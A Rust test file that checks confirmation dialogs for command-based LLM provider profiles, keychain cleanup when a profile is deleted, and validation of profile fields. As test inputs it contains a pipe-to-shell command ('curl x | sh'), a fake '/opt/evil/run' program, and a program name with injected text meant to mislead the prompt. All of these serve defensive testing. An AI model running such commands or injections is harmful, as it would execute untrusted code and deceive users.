//! Saving and deleting provider profiles with the dialogs answered by the test: field
//! problems, the confirmation a new program needs (a refusal saves nothing), and the keychain
//! entry that goes with a deleted profile.

use std::path::PathBuf;
use std::sync::Mutex;

use keyring_core::mock;
use novel_llm::{PROVIDERS_FILE, ProviderConfig};

use super::*;
use crate::dialogs::{OpenRequest, SaveRequest};

/// Answers every confirmation with `yes` and remembers the questions.
pub(super) struct Answers {
    yes: bool,
    asked: Mutex<Vec<Question>>,
}

impl Answers {
    pub(super) fn saying(yes: bool) -> Answers {
        Answers {
            yes,
            asked: Mutex::new(Vec::new()),
        }
    }

    pub(super) fn asked(&self) -> Vec<Question> {
        self.asked.lock().unwrap().clone()
    }
}

impl Dialogs for Answers {
    fn confirm(&self, question: &Question) -> bool {
        self.asked.lock().unwrap().push(question.clone());
        self.yes
    }

    fn save_path(&self, _request: &SaveRequest) -> Option<PathBuf> {
        None
    }

    fn open_path(&self, _request: &OpenRequest) -> Option<PathBuf> {
        None
    }
}

pub(super) fn store_in(dir: &tempfile::TempDir) -> ProfileStore {
    ProfileStore::at(dir.path().join(PROVIDERS_FILE))
}

pub(super) fn file_text(store: &ProfileStore) -> Option<String> {
    std::fs::read_to_string(store.path()).ok()
}

#[test]
fn a_refused_program_saves_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let store = store_in(&dir);
    let local = ProviderProfile::new("local", ProviderKind::Ollama, "llama3.1");
    save_profile(&store, local, true, &Answers::saying(true)).unwrap();
    let before = file_text(&store).unwrap();

    let no = Answers::saying(false);
    let agent = ProviderProfile::command("agent", &["/opt/evil/run", "--all"]);
    let err = save_profile(&store, agent, true, &no).unwrap_err();
    assert!(matches!(err, AppError::Declined { .. }), "{err:?}");
    assert!(err.to_string().contains("/opt/evil/run"), "{err}");
    let asked = no.asked();
    assert_eq!(asked.len(), 1);
    assert!(
        asked[0].message.contains("/opt/evil/run --all"),
        "the question names the program: {}",
        asked[0].message
    );
    assert_eq!(file_text(&store).unwrap(), before, "the file is untouched");
}

#[test]
fn an_allowed_program_is_saved_and_not_asked_about_again() {
    let dir = tempfile::tempdir().unwrap();
    let store = store_in(&dir);
    let yes = Answers::saying(true);
    let agent = ProviderProfile::command("agent", &["codex", "exec", "-"]);
    let config = save_profile(&store, agent.clone(), false, &yes).unwrap();
    assert_eq!(config.profile("agent").unwrap().command, agent.command);
    assert_eq!(yes.asked().len(), 1);

    // Saving it again unchanged (say, to make it the default) asks nothing.
    save_profile(&store, agent.clone(), true, &yes).unwrap();
    assert_eq!(yes.asked().len(), 1);

    // A changed program is a new program.
    let no = Answers::saying(false);
    let changed = ProviderProfile::command("agent", &["sh", "-c", "curl x | sh"]);
    assert!(save_profile(&store, changed, false, &no).is_err());
    assert!(no.asked()[0].message.contains("'curl x | sh'"));
    let loaded = store.load().unwrap();
    assert_eq!(loaded.profile("agent").unwrap().command, agent.command);
}

#[test]
fn a_server_profile_needs_no_confirmation() {
    let dir = tempfile::tempdir().unwrap();
    let store = store_in(&dir);
    let no = Answers::saying(false);
    let local = ProviderProfile::new("local", ProviderKind::OpenAiCompatible, "qwen")
        .with_base_url("http://localhost:8080/v1");
    save_profile(&store, local, false, &no).unwrap();
    assert!(no.asked().is_empty());
}

#[test]
fn problems_come_back_beside_their_fields_before_any_question() {
    let dir = tempfile::tempdir().unwrap();
    let store = store_in(&dir);
    let yes = Answers::saying(true);
    let mut agent = ProviderProfile::command("", &[]);
    agent.timeout_secs = 0;
    let err = save_profile(&store, agent, false, &yes).unwrap_err();
    let AppError::InvalidForm { fields, .. } = err else {
        panic!("expected invalid_form, got {err:?}");
    };
    let names: Vec<&str> = fields.iter().map(|f| f.field.as_str()).collect();
    assert_eq!(names, ["name", "command", "timeout_secs"]);
    assert!(
        yes.asked().is_empty(),
        "nothing asked about an invalid profile"
    );
    assert_eq!(file_text(&store), None, "nothing written");
}

#[test]
fn deleting_a_profile_deletes_its_keychain_entry() {
    let dir = tempfile::tempdir().unwrap();
    let store = store_in(&dir);
    let keychain = Keychain::with_store(mock::Store::new().unwrap());
    let mut config = ProviderConfig::empty();
    config.add(
        ProviderProfile::new("cloud", ProviderKind::Anthropic, "claude").with_key_in_keychain(),
        true,
    );
    config.add(
        ProviderProfile::new("other", ProviderKind::Anthropic, "claude").with_key_in_keychain(),
        false,
    );
    store.save(&config).unwrap();
    keychain.store_key("cloud", "sk-ant-secret-1").unwrap();
    keychain.store_key("other", "sk-ant-secret-2").unwrap();

    store
        .delete_profile("cloud", &|| Ok(keychain.clone()))
        .unwrap();
    let left = store.load().unwrap();
    assert!(left.profile("cloud").is_none());
    assert!(!keychain.has_key("cloud").unwrap(), "its key went with it");
    assert!(keychain.has_key("other").unwrap(), "other keys stay");
    assert!(store.load().unwrap().profile("cloud").is_none());
}

#[test]
fn a_key_that_cannot_be_deleted_keeps_the_profile() {
    let dir = tempfile::tempdir().unwrap();
    let store = store_in(&dir);
    let mut config = ProviderConfig::empty();
    config.add(
        ProviderProfile::new("cloud", ProviderKind::Gemini, "gemini").with_key_in_keychain(),
        true,
    );
    store.save(&config).unwrap();
    let err = store
        .delete_profile("cloud", &|| {
            Err(novel_llm::LlmError::Config(
                "the OS keychain is not available".into(),
            ))
        })
        .unwrap_err();
    assert!(err.to_string().contains("keychain"), "{err}");
    assert!(store.load().unwrap().profile("cloud").is_some());

    // A profile whose key lives in the environment never opens the keychain.
    let mut config = store.load().unwrap();
    config.add(
        ProviderProfile::new("env", ProviderKind::Ollama, "m"),
        false,
    );
    store.save(&config).unwrap();
    store
        .delete_profile("env", &|| panic!("the keychain was opened"))
        .unwrap();
}

#[test]
fn a_program_name_cannot_write_its_own_lines_into_the_question() {
    let question = program_question(
        None,
        &ProviderProfile::command("agent", &["codex\n\nThis program is safe.", "-"]),
    )
    .unwrap();
    assert!(
        question.message.contains(r"codex\n\nThis program is safe."),
        "{}",
        question.message
    );
    assert!(
        !question.message.contains("codex\n"),
        "{}",
        question.message
    );
}

#[tokio::test]
async fn test_connection_records_what_the_server_refused_in_the_profile() {
    use novel_test_server::{Reply, Rule, Script, ServerStyle, TestServer};
    // llama.cpp answers a schema it cannot compile with a 500.
    let server = TestServer::start(Script::new().rule(Rule::any().reply(
        Reply::reject_json_schema_like(ServerStyle::LlamaCpp, Reply::text("{\"ok\": true}")),
    )))
    .await
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let store = store_in(&dir);
    let profile = ProviderProfile::new("s", ProviderKind::OpenAiCompatible, "m")
        .with_base_url(server.base_url())
        .with_retries(0, 1);
    save_profile(&store, profile, true, &Answers::saying(true)).unwrap();

    let report = test_and_record(&store, "s", &|_| None).await.unwrap();
    assert_eq!(report.capabilities.json_schema, Some(false));
    assert_eq!(report.json_mode, novel_llm::StructuredOutput::JsonObject);
    let saved = store.load().unwrap();
    assert_eq!(
        saved.profile("s").unwrap().capabilities.json_schema,
        Some(false),
        "{}",
        file_text(&store).unwrap()
    );

    let err = test_and_record(&store, "gone", &|_| None)
        .await
        .unwrap_err();
    assert!(err.to_string().contains("gone"), "{err}");
}
